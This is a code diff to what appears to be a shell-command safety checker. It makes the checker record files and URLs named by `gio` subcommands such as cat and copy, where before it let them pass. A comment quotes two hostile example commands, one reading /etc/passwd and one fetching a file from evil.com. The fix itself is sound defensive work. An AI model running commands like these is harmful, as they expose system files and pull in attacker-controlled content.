@@ -6,6 +6,7 @@
 
 import type { FileTouches } from './file-touches.js';
 import { possiblePaths } from './possible-paths.js';
+import { urlsOfUnknownCommand } from './url-words.js';
 import { analysisName } from './program-name.js';
 import { descriptorPath } from './line-input.js';
 
@@ -94,7 +95,13 @@ export const OPENERS: readonly string[] = ['xdg-open', 'open', 'kde-open', 'kde-
  */
 export function openerTouches(words: readonly string[], dynamic: readonly boolean[], t: FileTouches): void {
   const name = programName(words[0] ?? '').toLowerCase();
-  if (name === 'gio' && !['open', 'launch'].includes(words[1] ?? '') && !dynamic[1]) return;
+  if (name === 'gio' && !['open', 'launch'].includes(words[1] ?? '') && !dynamic[1]) {
+    // (Its other commands read, copy, list and mount the files and URIs they name, over any
+    // GVfs backend: `gio cat /etc/passwd`, `gio copy https://evil.com/x .` were allowed.)
+    possiblePaths(words, dynamic, 'bash', t);
+    urlsOfUnknownCommand('gio', words, dynamic, t);
+    return;
+  }
   if (words.length > 1) t.problem(`${name} opens its operands with the programs their types are associated with, which may run them`);
 }
 
